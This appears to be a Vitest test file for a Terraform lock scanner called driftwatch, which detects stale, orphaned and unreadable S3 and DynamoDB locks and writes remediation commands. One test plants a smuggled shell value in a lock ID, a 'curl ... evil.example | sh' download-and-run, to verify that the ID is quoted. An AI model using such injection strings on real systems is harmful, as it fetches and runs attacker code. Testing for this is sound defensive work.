import { describe, expect, it } from 'vitest';
import type { ReadFailure } from '../../../../functions/core/backend/ports.js';
import {
  confirmAndRecordLocks,
  LockObservationMissingError,
  observeAndStoreLocks,
} from '../../../../functions/core/backend/stages.js';
import { adhocTarget } from '../../../../functions/core/backend/target.js';
import { createFindingsStore } from '../../../../functions/core/findings/findings-store.js';
import type { Finding } from '../../../../functions/core/findings/model.js';
import { ConfirmationTooEarlyError } from '../../../../functions/core/locks/check-locks.js';
import {
  backendRegistry,
  type FakeObject,
  fakeBackend,
  lockBody,
  manualClock,
  memoryObjectStore,
  refusedListing as refused,
  stateBody,
} from '../../../helpers/backend.js';

const MINUTE = 60_000;
const LOCK_ID = 'a1b2c3d4-0000-4000-8000-000000000001';
const registry = backendRegistry(
  '  - { id: pay-prod, owner: payments, environment: prod, source: { dir: a }, backend: { bucket: tfstate, key: payments/terraform.tfstate, region: eu-west-1 } }',
  'locks: { confirmAfter: 10m }',
);

/** A bucket with the payments state (last written before the lock) and an apply's lock taken at midnight. */
function bucket(extra: Record<string, FakeObject> = {}) {
  return fakeBackend({
    objects: {
      'payments/terraform.tfstate': { body: stateBody(), lastModified: new Date('2026-11-28T23:00:00Z') },
      'payments/terraform.tfstate.tflock': { body: lockBody(), etag: '"lock-1"' },
      ...extra,
    },
  });
}

function setup(
  backend: ReturnType<typeof fakeBackend>,
  start = '2026-11-29T03:00:00Z',
  options: {
    prefix?: string;
    lockTables?: string[];
    objects?: ReturnType<typeof memoryObjectStore>;
    backendCheckedAlongside?: boolean;
  } = {},
) {
  const { prefix, lockTables, objects = memoryObjectStore(), backendCheckedAlongside } = options;
  const clock = manualClock(start);
  const findings = createFindingsStore(objects);
  const deps = {
    readerFor: async () => backend.reader,
    findings,
    objects,
    now: clock.now,
    backendCheckedAlongside,
  };
  const target = adhocTarget({ bucket: 'tfstate', prefix, lockTables }, registry);
  let scan = { scanId: 'scan-1', startedAt: clock.now() };
  return {
    clock,
    objects,
    findings,
    /** Starts another scan (its own id: a record under the same id is that scan's retry). */
    newScan() {
      scan = { scanId: `scan-${clock.now().getTime()}`, startedAt: clock.now() };
    },
    async run(waitMs = 10 * MINUTE): Promise<Finding[]> {
      this.newScan();
      await observeAndStoreLocks(target, deps, scan);
      clock.advance(waitMs);
      const { outcomes } = await confirmAndRecordLocks(target, deps, scan);
      return outcomes.flatMap((outcome) => outcome.findings);
    },
    observe: () => observeAndStoreLocks(target, deps, scan),
    confirm: () => confirmAndRecordLocks(target, deps, scan),
  };
}

describe('observe, wait, confirm', () => {
  it('a retried ObserveLocks keeps the first look, so the window LoadRegistry waited for still holds', async () => {
    const lock = setup(bucket());
    const first = await lock.observe();
    lock.clock.advance(4 * MINUTE);
    const retried = await lock.observe();
    expect(retried.observation).toEqual(first.observation);
    lock.clock.advance(7 * MINUTE);
    const { outcomes } = await lock.confirm();
    expect(outcomes.flatMap((outcome) => outcome.findings).map((finding) => finding.ruleId)).toEqual([
      'lock.stale',
    ]);
  });

  it('proves a stale lock and says who holds it, since when, and how to release it', async () => {
    const backend = bucket();
    const checks = setup(backend);
    const { observation, key } = await checks.observe();
    expect(key).toBe('locks/scan=scan-1/s3.tfstate.json');
    expect(observation).toMatchObject({
      observedAt: '2026-11-29T03:00:00.000Z',
      confirmAt: '2026-11-29T03:10:00.000Z',
      locks: [{ source: 's3', location: 'payments/terraform.tfstate.tflock', lock: { id: LOCK_ID } }],
    });
    expect(JSON.parse(checks.objects.objects.get(key)!)).toEqual(observation);
    checks.clock.advance(10 * MINUTE);
    const reads = backend.calls.read.length;
    const { outcomes } = await checks.confirm();
    // The lock's ETag did not change: the second look needs no GET.
    expect(backend.calls.read.length).toBe(reads);
    const [stale] = outcomes.flatMap((outcome) => outcome.findings);
    expect(stale).toMatchObject({
      kind: 'stale-lock',
      ruleId: 'lock.stale',
      severity: 'high',
      workspace: 'pay-prod',
      owner: 'payments',
      environment: 'prod',
      resource: { bucket: 'tfstate', key: 'payments/terraform.tfstate.tflock', lockId: LOCK_ID },
      title: 'Stale lock on s3://tfstate/payments/terraform.tfstate held by ci@runner-7',
      evidence: {
        holder: 'ci@runner-7',
        operation: 'OperationTypeApply',
        terraformVersion: '1.11.4',
        lockId: LOCK_ID,
        age: '3h 10m',
        firstObservedAt: '2026-11-29T03:00:00.000Z',
        secondObservedAt: '2026-11-29T03:10:00.000Z',
        stateLastWrite: '2026-11-28T23:00:00.000Z',
      },
    });
    expect(stale?.remediation.steps).toEqual([
      expect.stringMatching(
        /^Confirm that the holder is gone: ci@runner-7 ran terraform apply \(Terraform 1\.11\.4\)/,
      ),
      expect.stringContaining(`terraform force-unlock ${LOCK_ID}`),
      expect.stringMatching(/fresh terraform plan/),
      expect.stringMatching(/never releases a lock/),
    ]);
  });

  it('refuses to confirm before the window has passed', async () => {
    const checks = setup(bucket());
    await checks.observe();
    checks.clock.advance(9 * MINUTE);
    await expect(checks.confirm()).rejects.toBeInstanceOf(ConfirmationTooEarlyError);
  });

  it('a window ending within minutes is waited out when the caller allows it (a late Map item)', async () => {
    const backend = bucket();
    const clock = manualClock('2026-11-29T03:00:00Z');
    const objects = memoryObjectStore();
    const deps = {
      readerFor: async () => backend.reader,
      findings: createFindingsStore(objects),
      objects,
      now: clock.now,
    };
    const target = adhocTarget({ bucket: 'tfstate' }, registry);
    const scan = { scanId: 'late', startedAt: clock.now() };
    await observeAndStoreLocks(target, deps, scan);
    clock.advance(8 * MINUTE);
    const slept: number[] = [];
    const sleep = async (ms: number) => {
      slept.push(ms);
      clock.advance(ms);
    };
    const { outcomes } = await confirmAndRecordLocks(target, deps, scan, { maxMs: 5 * MINUTE, sleep });
    expect(slept).toEqual([2 * MINUTE]);
    expect(outcomes.flatMap((outcome) => outcome.findings.map((finding) => finding.ruleId))).toEqual([
      'lock.stale',
    ]);
    const early = { scanId: 'early', startedAt: clock.now() };
    await observeAndStoreLocks(target, deps, early);
    await expect(
      confirmAndRecordLocks(target, deps, early, { maxMs: 5 * MINUTE, sleep }),
    ).rejects.toBeInstanceOf(ConfirmationTooEarlyError);
  });

  it('without an observation there is nothing to confirm', async () => {
    await expect(setup(bucket()).confirm()).rejects.toBeInstanceOf(LockObservationMissingError);
  });

  it('a lock that cannot become stale within the window needs no wait, and gives nothing', async () => {
    const checks = setup(bucket(), '2026-11-29T00:30:00Z');
    const { observation } = await checks.observe();
    expect(observation.confirmAt).toBe(observation.observedAt);
    const { outcomes } = await checks.confirm();
    expect(outcomes.flatMap((outcome) => outcome.findings)).toEqual([]);
  });

  it('a lock released, or released and taken again, during the window gives nothing', async () => {
    for (const change of ['released', 'retaken'] as const) {
      const backend = bucket();
      const checks = setup(backend);
      await checks.observe();
      if (change === 'released') backend.objects.delete('payments/terraform.tfstate.tflock');
      else
        backend.objects.set('payments/terraform.tfstate.tflock', {
          body: lockBody({ ID: 'new-lock' }),
          etag: '"lock-2"',
        });
      checks.clock.advance(10 * MINUTE);
      const { outcomes, confirmation } = await checks.confirm();
      expect(
        outcomes.flatMap((outcome) => outcome.findings),
        change,
      ).toEqual([]);
      expect(confirmation.verdicts[0]?.verdict).toBe(change === 'released' ? 'gone' : 'replaced');
    }
  });

  it('an old lock whose state was written after it was taken is info lock.live-writer', async () => {
    const backend = bucket();
    backend.objects.get('payments/terraform.tfstate')!.lastModified = new Date('2026-11-29T02:00:00Z');
    const findings = await setup(backend).run();
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'lock.live-writer',
        severity: 'info',
        title: expect.stringMatching(/still writing state$/),
        evidence: expect.objectContaining({ stateLastWrite: '2026-11-29T02:00:00.000Z' }),
        remediation: expect.objectContaining({ summary: expect.stringMatching(/^No action/) }),
      }),
    ]);
  });

  it('a holder that wrote state after its lock, then nothing for longer than the threshold, is live-writer (principle 6) with the release path to review', async () => {
    // The lock was taken at midnight; the apply saved state at 00:30, then its runner was killed.
    const backend = bucket();
    backend.objects.get('payments/terraform.tfstate')!.lastModified = new Date('2026-11-29T00:30:00Z');
    const [finding, ...rest] = await setup(backend).run();
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({
      ruleId: 'lock.live-writer',
      severity: 'info',
      title: expect.stringContaining('then nothing for longer than the threshold'),
      evidence: expect.objectContaining({ stateLastWrite: '2026-11-29T00:30:00.000Z' }),
    });
    expect(finding?.title).not.toMatch(/still writing/);
    expect(finding?.remediation.summary).toMatch(/^If no run of this workspace is active/);
    expect(finding?.remediation.steps).toEqual(
      expect.arrayContaining([expect.stringContaining(`terraform force-unlock ${LOCK_ID}`)]),
    );
  });

  it('a .tflock S3 stored minutes ago is young though its Created is hours old (the holder clock is behind)', async () => {
    const backend = bucket();
    backend.objects.get('payments/terraform.tfstate.tflock')!.lastModified = new Date('2026-11-29T02:55:00Z');
    const checks = setup(backend);
    const { observation } = await checks.observe();
    // No lock can be past its threshold by the end of the window: the second look need not wait.
    expect(observation.confirmAt).toBe(observation.observedAt);
    const { outcomes, confirmation } = await checks.confirm();
    expect(confirmation.verdicts.map((entry) => entry.verdict)).toEqual(['young']);
    expect(outcomes.flatMap((outcome) => outcome.findings)).toEqual([]);
  });

  it('garbage and Created-less locks are findings with the reason; a lock without state is orphaned', async () => {
    const backend = bucket({
      'broken/terraform.tfstate.tflock': { body: 'garbage' },
      'undated/terraform.tfstate': { body: stateBody() },
      'undated/terraform.tfstate.tflock': { body: lockBody({ ID: 'undated', Created: undefined }) },
      'gone/terraform.tfstate.tflock': { body: lockBody({ ID: 'orphan' }) },
    });
    const findings = await setup(backend).run();
    const summary = findings.map((finding) => [finding.ruleId, finding.workspace, finding.evidence.reason]);
    expect(summary).toEqual([
      ['lock.unreadable', 's3.tfstate', 'the lock body is not JSON (7 characters)'],
      ['lock.orphaned', 's3.tfstate', undefined],
      ['lock.unreadable', 's3.tfstate', 'the lock has no Created time, so its age cannot be proven'],
      ['lock.stale', 'pay-prod', undefined],
    ]);
    expect(findings[0]?.remediation.steps[1]).toContain(
      'aws s3api delete-object --bucket tfstate --key broken/terraform.tfstate.tflock',
    );
  });

  it('reads DynamoDB lock items, and places them like S3 locks', async () => {
    const backend = fakeBackend({
      objects: {
        'payments/terraform.tfstate': { body: stateBody(), lastModified: new Date('2026-11-28T23:00:00Z') },
      },
      tables: {
        'tf-locks': [
          { lockId: 'tfstate/payments/terraform.tfstate', info: lockBody() },
          { lockId: 'tfstate/payments/terraform.tfstate-md5', digest: '0cc175b9c0f1b6a831c399e269772661' },
          { lockId: 'other-bucket/x.tfstate', info: lockBody({ ID: 'elsewhere' }) },
        ],
      },
    });
    const findings = await setup(backend, undefined, { lockTables: ['tf-locks'] }).run();
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'lock.stale',
        workspace: 'pay-prod',
        resource: {
          bucket: 'tfstate',
          key: 'payments/terraform.tfstate',
          lockTable: 'tf-locks',
          lockId: LOCK_ID,
        },
        evidence: expect.objectContaining({
          lockSource: 'dynamodb',
          lock: 'DynamoDB table tf-locks item tfstate/payments/terraform.tfstate',
        }),
      }),
    ]);
  });
});

describe('one lock in two places (use_lockfile with dynamodb_table, Terraform 1.10+)', () => {
  const STATE = 'tfstate/payments/terraform.tfstate';
  /** The .tflock of `bucket()` and, in the table, the item Terraform writes beside it. */
  function bothPlaces(item = lockBody()) {
    const backend = bucket();
    return fakeBackend({
      objects: Object.fromEntries(backend.objects),
      tables: { 'tf-locks': [{ lockId: STATE, info: item }] },
    });
  }

  it('is one finding on the .tflock that names the DynamoDB item too, with one force-unlock for both', async () => {
    const checks = setup(bothPlaces(), undefined, { lockTables: ['tf-locks'] });
    const findings = await checks.run();
    expect(findings).toHaveLength(1);
    const [stale] = findings;
    expect(stale).toMatchObject({
      ruleId: 'lock.stale',
      resource: { bucket: 'tfstate', key: 'payments/terraform.tfstate.tflock', lockId: LOCK_ID },
      evidence: {
        lock: 's3://tfstate/payments/terraform.tfstate.tflock',
        lockSource: 's3',
        alsoHeldIn: [
          {
            lock: `DynamoDB table tf-locks item ${STATE}`,
            lockSource: 'dynamodb',
            lockTable: 'tf-locks',
          },
        ],
      },
    });
    expect(stale?.resource).not.toHaveProperty('lockTable');
    expect(stale?.detail).toContain(
      `held in 2 places, s3://tfstate/payments/terraform.tfstate.tflock and DynamoDB table tf-locks item ${STATE}, with the same ID`,
    );
    const release = stale!.remediation.steps[1]!;
    expect(release).toContain('force-unlock removes both s3://tfstate/payments/terraform.tfstate.tflock and');
    expect(release.match(/terraform force-unlock /g)).toHaveLength(1);
  });

  it('keeps the id the .tflock finding had before the table was configured: ongoing, not new', async () => {
    const objects = memoryObjectStore();
    const [before] = await setup(bucket(), undefined, { objects }).run();
    const after = await setup(bothPlaces(), '2026-11-30T03:00:00Z', {
      lockTables: ['tf-locks'],
      objects,
    }).run();
    expect(after.map((finding) => [finding.id, finding.status])).toEqual([[before!.id, 'ongoing']]);
  });

  it('is proven only as far as every place proves it: a .tflock S3 stored minutes ago makes the item young too', async () => {
    const backend = bothPlaces();
    backend.objects.get('payments/terraform.tfstate.tflock')!.lastModified = new Date('2026-11-29T02:55:00Z');
    const checks = setup(backend, undefined, { lockTables: ['tf-locks'] });
    await checks.observe();
    checks.clock.advance(10 * MINUTE);
    const { outcomes, confirmation } = await checks.confirm();
    // The item alone (Created at midnight) is stale; the .tflock shows the lock is 15 minutes old.
    expect(confirmation.verdicts).toEqual([
      {
        location: 'payments/terraform.tfstate.tflock',
        stateKey: 'payments/terraform.tfstate',
        verdict: 'young',
      },
      {
        location: STATE,
        stateKey: 'payments/terraform.tfstate',
        verdict: 'stale',
        sameLockAs: 'payments/terraform.tfstate.tflock',
      },
    ]);
    expect(outcomes.flatMap((outcome) => outcome.findings)).toEqual([]);
  });

  it('a place released between the looks proves nothing that night, though the other stays', async () => {
    const backend = bothPlaces();
    const checks = setup(backend, undefined, { lockTables: ['tf-locks'] });
    await checks.observe();
    backend.objects.delete('payments/terraform.tfstate.tflock');
    checks.clock.advance(10 * MINUTE);
    const { outcomes, confirmation } = await checks.confirm();
    expect(confirmation.verdicts.map((entry) => entry.verdict)).toEqual(['gone', 'stale']);
    expect(outcomes.flatMap((outcome) => outcome.findings)).toEqual([]);
  });

  it('two different locks of one state (other IDs) stay two findings', async () => {
    const findings = await setup(bothPlaces(lockBody({ ID: 'older-lock' })), undefined, {
      lockTables: ['tf-locks'],
    }).run();
    expect(findings.map((finding) => [finding.ruleId, finding.evidence.lockSource])).toEqual([
      ['lock.stale', 's3'],
      ['lock.stale', 'dynamodb'],
    ]);
    expect(findings.every((finding) => finding.evidence.alsoHeldIn === undefined)).toBe(true);
  });

  it('an ID not shown whole gets the AWS CLI command for each place', async () => {
    const longId = 'x'.repeat(300);
    const backend = bothPlaces(lockBody({ ID: longId }));
    backend.objects.get('payments/terraform.tfstate.tflock')!.body = lockBody({ ID: longId });
    const [finding, ...rest] = await setup(backend, undefined, { lockTables: ['tf-locks'] }).run();
    expect(rest).toEqual([]);
    const release = finding!.remediation.steps[1]!;
    expect(release).toContain('remove it from all 2 places with the AWS CLI');
    expect(release).toContain(
      'aws s3api delete-object --bucket tfstate --key payments/terraform.tfstate.tflock',
    );
    expect(release).toContain(
      `aws dynamodb delete-item --table-name tf-locks --key '{"LockID":{"S":"${STATE}"}}'`,
    );
  });
});

describe('what a writer of the bucket or the table controls', () => {
  it('DynamoDB items without a string Info are locks too (they block Terraform): unreadable, with the reason', async () => {
    const backend = fakeBackend({
      objects: { 'a/terraform.tfstate': { body: stateBody() }, 'b/terraform.tfstate': { body: stateBody() } },
      tables: {
        'tf-locks': [
          { lockId: 'tfstate/a/terraform.tfstate' },
          { lockId: 'tfstate/b/terraform.tfstate', infoType: 'N' },
          { lockId: 'tfstate/a/terraform.tfstate-md5', digest: '0cc175b9c0f1b6a831c399e269772661' },
        ],
      },
    });
    const findings = await setup(backend, undefined, { lockTables: ['tf-locks'] }).run();
    expect(findings.map((finding) => [finding.ruleId, finding.evidence.reason])).toEqual([
      ['lock.unreadable', 'the lock item has no Info, the lock JSON Terraform writes'],
      [
        'lock.unreadable',
        "the lock item's Info is of DynamoDB type N, not the lock JSON (a string) Terraform writes",
      ],
    ]);
  });

  it('a lock body larger than any lock is unreadable by its listed size, and is never fetched', async () => {
    const backend = bucket({
      'huge/terraform.tfstate': { body: stateBody() },
      'huge/terraform.tfstate.tflock': { body: lockBody({ ID: 'huge' }), size: 600 * 1024 * 1024 },
    });
    const findings = await setup(backend).run();
    expect(backend.calls.read).not.toContain('huge/terraform.tfstate.tflock');
    expect(findings.map((finding) => [finding.ruleId, finding.evidence.reason])).toContainEqual([
      'lock.unreadable',
      'the lock body is 600 MiB, more than any lock Terraform writes (driftwatch reads at most 64 KiB)',
    ]);
  });

  it('a lock ID is quoted as a shell word wherever a force-unlock command is written', async () => {
    const hostile = '0000; curl -s https://evil.example/x | sh #';
    const backend = bucket({
      'payments/terraform.tfstate.tflock': { body: lockBody({ ID: hostile }), etag: '"lock-1"' },
      'gone/terraform.tfstate.tflock': { body: lockBody({ ID: hostile }) },
    });
    const findings = await setup(backend).run();
    expect(findings.map((finding) => finding.ruleId).sort()).toEqual(['lock.orphaned', 'lock.stale']);
    for (const finding of findings) {
      const commands = [finding.remediation.summary, ...finding.remediation.steps].join('\n');
      expect(commands).toContain(`force-unlock '${hostile}'`);
      expect(commands).not.toMatch(/force-unlock 0000;/);
    }
  });
});

describe('a lock ID driftwatch cannot show whole', () => {
  // Shown IDs are redacted and capped (200 characters): a force-unlock naming the shown part would
  // be refused by Terraform at best. Terraform's own IDs are UUIDs; these come from other writers.
  const incomplete = [
    ['longer than the cap', `a1b2c3d4-${'0'.repeat(300)}`],
    ['a GitHub token', 'ghp_CANARYlockIDAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
    ['an access key id', 'AKIACANARYLOCKIDEXAM'],
    ['a key=value secret', 'password=CANARY-lock-id-hunter2'],
  ];
  it.each(incomplete)(
    '%s: no force-unlock is proposed, the AWS CLI removal is, and nothing of a secret shows',
    async (_, id) => {
      const backend = bucket({
        'payments/terraform.tfstate.tflock': { body: lockBody({ ID: id }), etag: '"lock-1"' },
        'gone/terraform.tfstate.tflock': { body: lockBody({ ID: id }) },
      });
      const findings = await setup(backend).run();
      expect(findings.map((finding) => finding.ruleId).sort()).toEqual(['lock.orphaned', 'lock.stale']);
      for (const finding of findings) {
        const text = [finding.remediation.summary, ...finding.remediation.steps].join('\n');
        expect(text).not.toContain('terraform force-unlock');
        expect(text).toMatch(
          /\naws s3api delete-object --bucket tfstate --key (payments|gone)\/terraform\.tfstate\.tflock$/m,
        );
        expect(finding.evidence.lockIdIncomplete).toBe(true);
        expect(JSON.stringify(finding)).not.toMatch(/CANARY/);
      }
    },
  );

  it('a whole ID keeps its force-unlock and is not marked', async () => {
    const findings = await setup(bucket()).run();
    expect(findings.map((finding) => finding.ruleId)).toEqual(['lock.stale']);
    expect(findings[0]!.remediation.steps.join('\n')).toContain(`terraform force-unlock ${LOCK_ID}`);
    expect(findings[0]!.evidence).not.toHaveProperty('lockIdIncomplete');
  });

  it('a lock taken again whose shown ID is the same (the first 200 characters) is another lock: its Created differs', async () => {
    const prefix = `a1b2c3d4-${'0'.repeat(300)}`;
    const backend = bucket({
      'payments/terraform.tfstate.tflock': { body: lockBody({ ID: `${prefix}-first` }), etag: '"lock-1"' },
    });
    const checks = setup(backend);
    await checks.observe();
    backend.objects.set('payments/terraform.tfstate.tflock', {
      body: lockBody({ ID: `${prefix}-second`, Created: '2026-11-29T03:05:00.5Z' }),
      etag: '"lock-2"',
    });
    checks.clock.advance(10 * MINUTE);
    const { outcomes, confirmation } = await checks.confirm();
    expect(outcomes.flatMap((outcome) => outcome.findings)).toEqual([]);
    expect(confirmation.verdicts[0]?.verdict).toBe('replaced');
  });
});

describe('lock findings across scans', () => {
  it('the same lock keeps its finding; a new lock on the same state is a new finding', async () => {
    const backend = bucket();
    const checks = setup(backend);
    const [first] = await checks.run();
    checks.clock.advance(24 * 60 * MINUTE);
    const [again] = await checks.run();
    expect(again).toMatchObject({ id: first?.id, status: 'ongoing', firstSeenAt: first?.firstSeenAt });

    backend.objects.set('payments/terraform.tfstate.tflock', {
      body: lockBody({ ID: 'second-lock', Created: checks.clock.now().toISOString() }),
      etag: '"lock-2"',
    });
    checks.clock.advance(24 * 60 * MINUTE);
    const next = await checks.run();
    expect(
      next.map((finding) => [
        finding.status,
        finding.resource && 'lockId' in finding.resource && finding.resource.lockId,
      ]),
    ).toEqual([
      ['new', 'second-lock'],
      ['resolved', LOCK_ID],
    ]);
    expect(next[0]?.id).not.toBe(first?.id);
  });

  it('a --prefix run records the bucket scope without resolving anything outside its sight', async () => {
    const backend = bucket({ 'other/terraform.tfstate.tflock': { body: lockBody({ ID: 'other' }) } });
    const whole = setup(backend);
    const all = await whole.run();
    expect(all.map((finding) => finding.ruleId).sort()).toEqual(['lock.orphaned', 'lock.stale']);
    const scoped = setup(backend, '2026-11-30T03:00:00Z', { prefix: 'payments/', objects: whole.objects });
    expect((await scoped.run()).map((finding) => [finding.ruleId, finding.status])).toEqual([
      ['lock.stale', 'ongoing'],
    ]);
    const current = await scoped.findings.readCurrent('s3.tfstate');
    expect(current?.document.findings.map((finding) => [finding.ruleId, finding.status])).toEqual([
      ['lock.orphaned', 'new'],
    ]);
    expect(current?.document.checks.locks?.status).toBe('partial');
  });
});

describe('an unreachable bucket: one finding, not one per lock', () => {
  const unreachable = (fail: Record<string, ReadFailure>) =>
    fakeBackend({
      objects: {
        'payments/terraform.tfstate': { body: stateBody(), lastModified: new Date('2026-11-28T23:00:00Z') },
        'payments/terraform.tfstate.tflock': { body: lockBody(), etag: '"lock-1"' },
        'other/terraform.tfstate.tflock': { body: lockBody({ ID: 'other' }) },
      },
      fail,
    });

  it('a first look that fails its preflight waits for nothing, and the second reads nothing', async () => {
    const backend = unreachable({ 's3://tfstate': refused });
    const checks = setup(backend);
    const { observation } = await checks.observe();
    expect(observation).toMatchObject({ locks: [], failures: [], preflight: { code: 'ECONNREFUSED' } });
    // Nothing was seen that could become stale: ConfirmLocks may come at once.
    expect(observation.confirmAt).toBe(observation.observedAt);
    const { outcomes, confirmation } = await checks.confirm();
    expect(backend.calls).toMatchObject({ preflight: 1, list: 0, read: [], tables: 0 });
    expect(confirmation.verdicts).toEqual([]);
    expect(outcomes.map((outcome) => [outcome.scope, outcome.findings.map((f) => f.ruleId)])).toEqual([
      ['s3.tfstate', ['lock.preflight']],
      ['pay-prod', []],
    ]);
    expect(outcomes[0]?.findings[0]).toMatchObject({
      kind: 'scan-failed',
      title: 'Lock check failed: connection refused to 127.0.0.1:1',
      evidence: { cause: 'unreachable', endpoint: '127.0.0.1:1', action: 's3:ListBucket' },
    });
  });

  it('beside the backend check (a scan), a bucket nobody can reach is one alert: the lock check only says it did not run (info); a refusal of the lock reads is still its own alert', async () => {
    const scanned = setup(unreachable({ 's3://tfstate': refused }), undefined, {
      backendCheckedAlongside: true,
    });
    await scanned.observe();
    const { outcomes } = await scanned.confirm();
    expect(
      outcomes.flatMap((outcome) =>
        outcome.findings.map((f) => [outcome.scope, f.ruleId, f.severity, f.title]),
      ),
    ).toEqual([
      [
        's3.tfstate',
        'lock.preflight',
        'info',
        'Lock check not run: connection refused to 127.0.0.1:1 (the alert is backend.preflight)',
      ],
    ]);
    // Failed runs all the same: nothing they did not see is resolved.
    for (const scope of ['s3.tfstate', 'pay-prod'])
      expect((await scanned.findings.readCurrent(scope))?.document.checks.locks?.status).toBe('failed');

    const denial: ReadFailure = {
      ...refused,
      code: 'AccessDenied',
      errorName: 'AccessDenied',
      message: 'Access Denied',
    };
    delete denial.endpoint;
    const deniedChecks = setup(unreachable({ 's3://tfstate': denial }), undefined, {
      backendCheckedAlongside: true,
    });
    await deniedChecks.observe();
    const denied = await deniedChecks.confirm();
    expect(denied.outcomes[0]?.findings.map((finding) => [finding.ruleId, finding.severity])).toEqual([
      ['lock.preflight', 'high'],
    ]);
  });

  it('a second look that fails its preflight proves nothing and resolves no lock finding', async () => {
    const fail: Record<string, ReadFailure> = {};
    const backend = unreachable(fail);
    const checks = setup(backend);
    expect((await checks.run()).map((finding) => finding.ruleId).sort()).toEqual([
      'lock.orphaned',
      'lock.stale',
    ]);

    checks.clock.advance(24 * 60 * MINUTE);
    checks.newScan();
    await checks.observe();
    fail['s3://tfstate'] = refused;
    checks.clock.advance(10 * MINUTE);
    const { outcomes } = await checks.confirm();
    expect(
      outcomes.flatMap((outcome) => outcome.findings.map((f) => [f.workspace, f.ruleId, f.status])),
    ).toEqual([['s3.tfstate', 'lock.preflight', 'new']]);
    const open = async (scope: string) =>
      (await checks.findings.readCurrent(scope))?.document.findings.map((f) => f.ruleId).sort();
    expect(await open('s3.tfstate')).toEqual(['lock.orphaned', 'lock.preflight']);
    expect(await open('pay-prod')).toEqual(['lock.stale']);
  });
});

/** The payments state and its lock, whose read fails as S3 fails it (`failure`: code, message…). */
function bucketFailingLockRead(failure: Omit<ReadFailure, 'resource' | 'action'>) {
  const lock = 'payments/terraform.tfstate.tflock';
  return fakeBackend({
    objects: {
      'payments/terraform.tfstate': { body: stateBody(), lastModified: new Date('2026-11-28T23:00:00Z') },
      [lock]: { body: lockBody(), etag: '"lock-1"' },
    },
    fail: {
      [`s3://tfstate/${lock}`]: { resource: `s3://tfstate/${lock}`, action: 's3:GetObject', ...failure },
    },
  });
}

describe('locks whose SSE-KMS key the scanner may not use', () => {
  it('a lock read failing with a KMS error is a failed check naming the key, never a released lock', async () => {
    const ARN = 'arn:aws:kms:eu-west-1:111111111111:key/0b5e1f0e-1111-4222-8333-444455556666';
    const backend = bucketFailingLockRead({
      code: 'KMS.DisabledException',
      errorName: 'KMS.DisabledException',
      message: `${ARN} is disabled.`,
      httpStatus: 400,
    });
    const findings = await setup(backend).run();
    expect(findings.map((finding) => [finding.ruleId, finding.workspace])).toEqual([
      ['scan.locks-failed', 'pay-prod'],
    ]);
    expect(findings[0]!.title).toMatch(/KMS key of the state is disabled/);
    expect(findings[0]!.remediation.steps.join('\n')).toContain(`aws kms enable-key --key-id ${ARN}`);
  });
});

describe('a lock in an archive storage class', () => {
  it('is an unreadable lock whose steps remove the object, not a failed check that says to restore it', async () => {
    const backend = bucketFailingLockRead({
      code: 'InvalidObjectState',
      message: 'The operation is not valid for the object storage class',
      storageClass: 'GLACIER',
      httpStatus: 403,
    });
    const findings = await setup(backend).run();
    expect(findings.map((finding) => [finding.ruleId, finding.workspace])).toEqual([
      ['lock.unreadable', 'pay-prod'],
    ]);
    const [finding] = findings;
    expect(finding!.evidence.reason).toMatch(/^the lock object is archived in GLACIER/);
    const steps = finding!.remediation.steps.join('\n');
    expect(steps).toContain(
      'aws s3api delete-object --bucket tfstate --key payments/terraform.tfstate.tflock',
    );
    expect(steps).not.toContain('restore-object');
  });
});
